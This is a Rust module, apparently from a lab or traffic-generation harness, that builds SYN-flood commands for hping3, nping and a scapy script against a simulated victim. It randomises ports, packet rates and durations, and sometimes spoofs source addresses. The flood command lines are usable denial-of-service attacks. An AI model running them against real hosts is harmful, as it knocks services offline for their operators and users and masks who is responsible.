//! SYNs without end, with the attacker's address or made-up ones.

use fastrand::Rng;

use super::{Attack, NPING_MOST, Recipe, flooded, rate};
use crate::site::Site;

pub(super) const HPING: Recipe =
    Recipe { kind: "synflood", tool: "hping3", alone: 3, may_come_from_outside: true, make: hping };
pub(super) const NPING: Recipe =
    Recipe { kind: "synflood", tool: "nping", alone: 2, may_come_from_outside: true, make: nping };
pub(super) const SCAPY: Recipe =
    Recipe { kind: "synflood", tool: "scapy", alone: 2, may_come_from_outside: true, make: scapy };

/// Open ports mostly, a closed one now and then.
fn port(rng: &mut Rng) -> u16 {
    rng.choice([80, 80, 22, 443, 8080]).unwrap_or(80)
}

fn hping(rng: &mut Rng, site: &Site, number: u32) -> Attack {
    let (victim, port, rate, seconds) = (flooded(rng, site), port(rng), rate(rng), rng.u32(4..15));
    let spoof = number == 2;
    let size = rng.choice(["", "-d 120 -w 64 "]).unwrap_or("");
    let source = if spoof { "--rand-source " } else { "" };
    let line = format!("exec hping3 -q -S -p {port} -i u{} {size}{source}{victim}", 1_000_000 / rate);
    spoofed(spoof, Attack::new(&HPING, site, &victim, seconds, line))
}

fn nping(rng: &mut Rng, site: &Site, _: u32) -> Attack {
    let (victim, port, rate, seconds) = (flooded(rng, site), port(rng), rate(rng).min(NPING_MOST), rng.u32(5..15));
    let line = format!("exec nping -q -H -N --tcp --flags syn -p {port} --rate {rate} -c 0 {victim}");
    Attack::new(&NPING, site, &victim, seconds, line)
}

fn scapy(rng: &mut Rng, site: &Site, number: u32) -> Attack {
    let (victim, port, rate, seconds) = (flooded(rng, site), port(rng), rate(rng), rng.u32(4..12));
    let spoof = number == 2;
    let line = format!("exec python3 $S/synflood.py {victim} {port} {rate} {seconds} {}", u8::from(spoof));
    // scapy itself takes seconds to start and to build the packets.
    spoofed(spoof, Attack::new(&SCAPY, site, &victim, seconds + 15, line))
}

fn spoofed(spoof: bool, attack: Attack) -> Attack {
    let attack = Attack { least: 500, ..attack };
    if spoof { Attack { attacker: "*".to_owned(), ..attack } } else { attack }
}
